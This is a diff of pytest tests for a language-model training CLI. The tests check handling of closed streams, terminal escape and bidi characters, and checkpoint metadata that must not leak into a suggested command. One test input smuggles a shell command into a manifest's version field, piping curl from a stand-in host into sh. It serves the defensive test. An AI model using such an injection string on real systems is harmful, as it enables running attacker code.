@@ -1,5 +1,6 @@
 """Where the output goes: pipes that close, terminals that lack characters, no terminal, a clock that jumps."""
 
+import json
 import os
 import subprocess
 import sys
@@ -77,3 +78,83 @@ def test_durations_do_not_depend_on_the_time_of_day(
 
     state = load_checkpoint(find_checkpoint("back", "last")).documents["training"]["state"]
     assert 0.3 <= state["elapsed_seconds"] < 30
+
+
+TRAIN = ["data=text", "data.path=text.txt", "model.hidden_size=8", "trainer.num_steps=2", "trainer.batch_size=4"]
+
+
+@pytest.mark.parametrize(
+    "closed", [pytest.param("<&-", marks=pytest.mark.slow), pytest.param(">&-", marks=pytest.mark.slow), "2>&-", "<&- >&- 2>&-"]
+)
+def test_standard_streams_that_are_closed_end_nothing(closed: str, place: Path) -> None:
+    """As daemons and cron wrappers leave them; files opened later do not get their descriptors."""
+    command = f'exec "$0" -m lmtrain "$@" {closed}'
+    training = ["sh", "-c", command, sys.executable, *TRAIN, "hydra.run.dir=closed"]
+    result = subprocess.run(training, capture_output=True, timeout=120, check=False)
+    assert result.returncode == 0, result.stderr
+    assert b"Traceback" not in result.stderr
+    records = (place / "closed" / "metrics.jsonl").read_bytes().splitlines()
+    assert all(record.startswith(b"{") for record in records)
+    reading = ["sh", "-c", command, sys.executable, "score", "run", "-"]
+    result = subprocess.run(reading, input=b"the cat\n", capture_output=True, timeout=60, check=False)
+    assert result.returncode == (3 if "<" in closed else 0)
+    if closed == "<&-":
+        assert result.stderr.startswith(b"lmtrain: Standard input is closed.")
+
+
+def test_standard_input_that_cannot_be_read_is_a_paragraph(place: Path) -> None:
+    with open("only.written", "wb") as file:
+        result = subprocess.run([*SAMPLE[:3], "score", "run", "-"], stdin=file, capture_output=True, timeout=60, check=False)
+    assert result.returncode == 3
+    assert result.stderr.startswith(b"lmtrain: ")
+
+
+def test_no_vocabulary_makes_a_terminal_obey(place: Path) -> None:
+    """A pipe gets the text as it is."""
+    prompt = ["--prompt", "the \x1b[31m\u202e cat"]
+    piped = subprocess.run([*SAMPLE, "3", *prompt], capture_output=True, timeout=60, check=True)
+    assert piped.stdout.startswith("the \x1b[31m\u202e cat".encode())
+    ours, theirs = os.openpty()
+    subprocess.run([*SAMPLE, "3", *prompt], stdout=theirs, stderr=subprocess.PIPE, timeout=60, check=True)
+    os.close(theirs)
+    with open(ours, "rb") as terminal:
+        written = terminal.read1()
+    assert written.startswith(rb"the \x1b[31m\u202e cat")
+
+
+@pytest.mark.parametrize(
+    ("version", "remedy"),
+    [
+        ('1";curl -s http://evil.example|sh #\x1b[31m', "Install a newer lmtrain."),
+        ("9.1\n", "Install a newer lmtrain."),
+        ("9.1.dev2+abc", 'Type: pip install "lmtrain>=9.1.dev2+abc"'),
+    ],
+)
+def test_no_text_of_a_checkpoint_is_part_of_a_command_to_type(
+    version: str, remedy: str, place: Path, call: Callable[..., Any]
+) -> None:
+    from lmtrain.training.checkpoint import _fingerprint, find_checkpoint
+
+    path = find_checkpoint("run", "last")
+    manifest = json.loads((path / "manifest.json").read_bytes()) | {"schema": 99, "lmtrain": version}
+    (path / "manifest.json").write_text(json.dumps(manifest | {"sha256": _fingerprint(manifest)}), encoding="utf-8")
+    ended = call("sample", str(path))
+    assert ended.code == 4
+    assert ended.err.rstrip().endswith(remedy)
+    assert "\x1b" not in ended.err
+    assert "| curl" not in ended.err
+
+
+def test_what_a_message_holds_of_others_is_shown_and_not_obeyed(place: Path, call: Callable[..., Any]) -> None:
+    name = "a\x1b]0;title\x07\u202eb"
+    ended = call("score", "run", name)
+    assert ended.code == 3
+    assert r"a\x1b]0;title\x07\u202eb" in ended.err
+    ended = call("TRAIN", f'hydra.run.dir="{name}"')
+    assert ended.code == 0
+    assert not {"\x1b", "\x07", "\u202e"} & set(ended.out + ended.err)
+    (line,) = [line for line in ended.out.splitlines() if "lmtrain sample" in line]
+    shell = subprocess.run(
+        ["sh", "-c", f"printf '%s' {line.split('sample ')[1].split(' --prompt')[0]}"], capture_output=True, check=True
+    )
+    assert shell.stdout.decode() == name
